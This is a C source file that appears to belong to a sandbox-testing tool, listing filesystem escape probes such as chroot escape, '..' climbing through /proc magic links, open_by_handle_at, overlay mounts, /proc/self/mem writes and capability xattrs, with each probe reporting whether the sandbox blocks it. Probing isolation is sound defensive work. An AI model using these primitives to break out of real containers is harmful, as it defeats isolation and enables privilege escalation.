/* Attacks on the view of files: reaching what is not shown, and writing what is shown read-only. */
#include "attack.h"
#include <dirent.h>
#include <linux/fs.h>
#include <linux/magic.h>
#include <linux/mount.h>
#include <sys/fanotify.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/vfs.h>
#include <sys/xattr.h>

static int open_path(char **w) { return open_only(w[0], O_RDONLY); }

/* At least a byte of it: what is covered by /dev/null can be opened, and says nothing. */
static int read_path(char **w) {
  char byte;
  int file = open(w[0], O_RDONLY | O_NONBLOCK);
  if (file < 0) return -1;
  errno = ENODATA;
  return read(file, &byte, 1) == 1 ? 0 : -1;
}

/* A file of /proc itself, and nothing that lies over it; nothing is read, for a log is empty then. */
static int open_of_proc(char **w) {
  struct statfs status;
  int file = open(w[0], O_RDONLY | O_NONBLOCK);
  if (file < 0 || fstatfs(file, &status)) return -1;
  errno = ENODATA;
  return status.f_type == PROC_SUPER_MAGIC ? 0 : -1;
}

static int write_path(char **w) { return open_only(w[0], O_WRONLY); }
static int read_write_path(char **w) { return open_only(w[0], O_RDWR); }

static int create(char **w) { return got(open(w[0], O_CREAT | O_EXCL | O_WRONLY, 0600)); }

static int list(char **w) { return opendir(w[0]) ? 0 : -1; }

/* What another process has open, by the names in /proc/PID/fd. */
static int reopen(char **w) {
  char path[64];
  int refused = ENOENT;
  for (int fd = 0; fd < 64; fd++) {
    snprintf(path, sizeof path, "/proc/%s/fd/%d", w[0], fd);
    if (open_only(path, O_RDONLY) == 0) return 0;
    if (errno != ENOENT) refused = errno;
  }
  errno = refused;
  return -1;
}

/* The name of a host file behind as many ".." as any path has. */
static int climb(char **w) {
  char path[4096] = "";
  for (int i = 0; i < 64; i++) strcat(path, "../");
  strncat(path, w[0] + 1, sizeof path - strlen(path) - 1);
  return open_only(path, O_RDONLY);
}

/* The same from magic links, which lead to a root and to a working directory: proc(5). */
static int climb_magic(char **w) {
  char path[4096];
  snprintf(path, sizeof path, "/proc/self/root/../..%s", w[0]);
  if (open_only(path, O_RDONLY) == 0) return 0;
  snprintf(path, sizeof path, "/proc/self/cwd/../../../../..%s", w[0]);
  return open_only(path, O_RDONLY);
}

/* chroot(2), "escape": a working directory outside the new root. */
static int chroot_escape(char **w) {
  if (mkdir("/tmp/jail", 0700) && errno != EEXIST) return -1;
  if (chroot("/tmp/jail")) return -1;
  for (int i = 0; i < 64; i++)
    if (chdir("..")) return -1;
  return open_only(w[0] + 1, O_RDONLY);
}

static int remount(char **w) { return mount(NULL, w[0], NULL, MS_REMOUNT | MS_BIND, NULL); }
static int bind_mount(char **w) { return mount(w[0], "/tmp", NULL, MS_BIND, NULL); }
static int unmount(char **w) { return umount2(w[0], MNT_DETACH); }
static int new_tmpfs(char **w) { return mount("tmpfs", "/tmp", "tmpfs", 0, NULL); }

static int pivot(char **w) {
  if (chdir("/")) return -1;
  return reached(syscall(SYS_pivot_root, "/tmp", "/tmp"), EINVAL);
}

static int new_mount_api(char **w) { return got(syscall(SYS_fsopen, "tmpfs", 0)); }
static int clone_tree(char **w) { return got(syscall(SYS_open_tree, AT_FDCWD, "/usr", OPEN_TREE_CLONE)); }

static int pick_superblock(char **w) { return got(syscall(SYS_fspick, AT_FDCWD, w[0], 0)); }
static int move_tree(char **w) {
  return reached(syscall(SYS_move_mount, AT_FDCWD, w[0], AT_FDCWD, w[0], 0), ELOOP);
}
static int change_propagation(char **w) { return mount(NULL, w[0], NULL, MS_SHARED | MS_REC, NULL); }

/* open_tree_attr(2), Linux 6.15. */
static int clone_writable(char **w) {
  struct mount_attr attributes = {.attr_clr = MOUNT_ATTR_RDONLY};
  return got(syscall(467, AT_FDCWD, w[0], OPEN_TREE_CLONE, &attributes, sizeof attributes));
}

static int clear_readonly(char **w) {
  struct mount_attr attributes = {.attr_clr = MOUNT_ATTR_RDONLY};
  return got(syscall(SYS_mount_setattr, AT_FDCWD, w[0], 0, &attributes, sizeof attributes));
}

/* Registering a handler would reach every user: only the mount is tried, and in a user namespace it is an own one. */
static int mount_type(char **w) {
  if (mkdir("/tmp/mounted", 0700) && errno != EEXIST) return -1;
  return mount("none", "/tmp/mounted", w[0], 0, w[1]);
}

/* /dev/mem by its number, mem(4). */
static int make_device(char **w) { return mknod("/tmp/device", S_IFCHR | 0600, makedev(1, 1)); }

/* CVE-2014-9357's kind: a file by its handle, wherever it is. */
static int by_handle(char **w) {
  struct {
    struct file_handle head;
    char bytes[128];
  } handle = {.head = {.handle_bytes = 128}};
  int mount_id;
  if (syscall(SYS_name_to_handle_at, AT_FDCWD, w[0], &handle, &mount_id, 0)) return -1;
  int directory = open(w[0], O_RDONLY);
  if (directory < 0) return -1;
  return got(syscall(SYS_open_by_handle_at, directory, &handle, O_RDONLY));
}

static int name_to_handle(char **w) {
  struct {
    struct file_handle head;
    char bytes[128];
  } handle = {.head = {.handle_bytes = 128}};
  int mount_id;
  return got(syscall(SYS_name_to_handle_at, AT_FDCWD, w[0], &handle, &mount_id, 0));
}

static int write_text(char **w) {
  int file = open(w[0], O_WRONLY);
  if (file < 0) return -1;
  return write(file, w[1], strlen(w[1])) < 0 ? -1 : 0;
}

/* Through /proc/self/mem, which writes also where a page may only be read; what is there already. */
static int write_mapped(char **w) {
  int file = open(w[0], O_RDWR), may = PROT_READ | PROT_WRITE;
  if (file < 0) file = open(w[0], O_RDONLY), may = PROT_READ;
  char *mapped = mmap(NULL, 4096, may, MAP_SHARED, file, 0), same = mapped[0];
  int memory = open("/proc/self/mem", O_RDWR);
  if (memory < 0) return -1;
  return pwrite(memory, &same, 1, (off_t)mapped) == 1 ? 0 : -1;
}

static int watch(char **w) { return got(inotify_add_watch(inotify_init1(0), w[0], IN_ALL_EVENTS)); }

/* With layers of its own: CVE-2021-3493 and CVE-2023-0386 went on from here. */
static int overlay(char **w) {
  const char *directories[] = {"/tmp/lower", "/tmp/upper", "/tmp/work", "/tmp/merged"};
  for (int i = 0; i < 4; i++)
    if (mkdir(directories[i], 0755) && errno != EEXIST) return -1;
  return mount("none", "/tmp/merged", "overlay", 0, "lowerdir=/tmp/lower,upperdir=/tmp/upper,workdir=/tmp/work,userxattr");
}

static int take_ownership(char **w) {
  int file = open("/tmp/owned", O_CREAT | O_RDWR, 0600);
  if (file < 0) return -1;
  return fchown(file, 0, 0);
}

static int mark_trusted(char **w) {
  int file = open("/tmp/marked", O_CREAT | O_RDWR, 0600);
  if (file < 0) return -1;
  return fsetxattr(file, "trusted.overlay.opaque", "y", 1, 0);
}

static int change_mode(char **w) { return chmod(w[0], 0644); }
static int change_times(char **w) { return utimensat(AT_FDCWD, w[0], NULL, 0); }
static int mark_as_user(char **w) { return setxattr(w[0], "user.vial", "x", 1, 0); }

/* ioctl_iflags(2): a descriptor that is open for reading is enough. */
static int set_flags(char **w) {
  int file = open(w[0], O_RDONLY), flags;
  if (file < 0 || ioctl(file, FS_IOC_GETFLAGS, &flags)) return -1;
  return ioctl(file, FS_IOC_SETFLAGS, &flags);
}

/* The same by file_setattr(2), Linux 6.17. */
static int set_attributes(char **w) {
  struct { uint64_t flags; uint32_t extent, count, project, cow; } attributes;
  if (syscall(468, AT_FDCWD, w[0], &attributes, sizeof attributes, 0)) return -1;
  return got(syscall(469, AT_FDCWD, w[0], &attributes, sizeof attributes, 0));
}

static int give_capability(char **w) {
  int file = open("/tmp/capable", O_CREAT | O_RDWR, 0700);
  if (file < 0) return -1;
  struct { uint32_t magic, sets[4]; } capability = {0x02000000, {1u << 13, 0, 0, 0}};
  return fsetxattr(file, "security.capability", &capability, sizeof capability, 0);
}

/* Another name, where it may be written, for what is shown read-only. */
static int link_across(char **w) {
  if (link(w[0], w[1])) return -1;
  return unlink(w[1]);
}

/* A place that the host's mounts would come to, or from which ours would go: proc_pid_mountinfo(5). */
static int propagates(char **w) {
  char line[4096];
  FILE *mounts = fopen("/proc/self/mountinfo", "r");
  while (mounts != NULL && fgets(line, sizeof line, mounts))
    if (strstr(line, " shared:") || strstr(line, " master:")) return 0;
  errno = ENOENT;
  return -1;
}

static int watch_all(char **w) { return got(fanotify_init(FAN_CLASS_NOTIF | FAN_REPORT_FID, O_RDONLY)); }

/* Freezing would stop the host: what is not frozen cannot be thawed, and that comes after the check of the caller. */
static int thaw(char **w) { return reached(ioctl(open(w[0], O_RDONLY), FITHAW, 0), EINVAL); }

/* listmount(2), Linux 6.8: the mounts below the root of the namespace. */
static int list_mounts(char **w) {
  struct { uint32_t size, spare; uint64_t mount, parameter; } request = {24, 0, UINT64_MAX, 0};
  uint64_t found[8];
  return got(syscall(458, &request, found, 8, 0));
}

/* Says whether a descriptor that was not handed on is there. */
static int inherited(char **w) {
  for (int fd = 3; fd < 1024; fd++)
    if (fcntl(fd, F_GETFD) >= 0) return 0;
  errno = EBADF;
  return -1;
}

static int leave_by_descriptor(char **w) {
  if (fchdir(atoi(w[0]))) return -1;
  return open_only(w[1], O_RDONLY);
}

/* F_SETLEASE(2const): a process that opens the file outside, to write it or to execute it, waits until it is given up. */
static int take_lease(char **w) {
  int file = open(w[0], O_RDONLY);
  if (file < 0) return -1;
  return fcntl(file, F_SETLEASE, F_RDLCK);
}

/* fcntl(2), F_NOTIFY: what inotify does, by signals. */
static int watch_by_signal(char **w) {
  int directory = open(w[0], O_RDONLY | O_DIRECTORY);
  if (directory < 0) return -1;
  return fcntl(directory, F_NOTIFY, DN_CREATE);
}

/* An empty directory over whatever is there, for all that look there by its name. */
static int cover(char **w) { return mount("none", w[0], "tmpfs", 0, NULL); }

/* pivot_root(2), "pivot_root(".", ".")": an empty root for all processes in it, and no way back to the one before. */
static int new_root(char **w) {
  (void)w;
  if (mount("none", "/tmp", "tmpfs", 0, NULL) || chdir("/tmp")) return -1;
  if (syscall(SYS_pivot_root, ".", ".")) return -1;
  return umount2(".", MNT_DETACH);
}

const struct attack filesystem[] = {
    {"lease", take_lease},
    {"dnotify", watch_by_signal},
    {"open", open_path},
    {"read", read_path},
    {"open-of-proc", open_of_proc},
    {"write", write_path},
    {"read-write", read_write_path},
    {"create", create},
    {"list", list},
    {"reopen", reopen},
    {"climb", climb},
    {"climb-magic", climb_magic},
    {"chroot-escape", chroot_escape},
    {"remount", remount},
    {"bind", bind_mount},
    {"unmount", unmount},
    {"tmpfs", new_tmpfs},
    {"pivot", pivot},
    {"cover", cover},
    {"new-root", new_root},
    {"fsopen", new_mount_api},
    {"open-tree", clone_tree},
    {"fspick", pick_superblock},
    {"move-mount", move_tree},
    {"propagation", change_propagation},
    {"open-tree-attr", clone_writable},
    {"mount-setattr", clear_readonly},
    {"write-text", write_text},
    {"write-mapped", write_mapped},
    {"name-to-handle", name_to_handle},
    {"watch", watch},
    {"overlay", overlay},
    {"mount-type", mount_type},
    {"mknod", make_device},
    {"by-handle", by_handle},
    {"chown", take_ownership},
    {"trusted-xattr", mark_trusted},
    {"inherited", inherited},
    {"fchdir", leave_by_descriptor},
    {"chmod", change_mode},
    {"utimes", change_times},
    {"user-xattr", mark_as_user},
    {"set-flags", set_flags},
    {"set-attributes", set_attributes},
    {"give-capability", give_capability},
    {"link", link_across},
    {"propagates", propagates},
    {"fanotify", watch_all},
    {"thaw", thaw},
    {"list-mounts", list_mounts},
    {0},
};
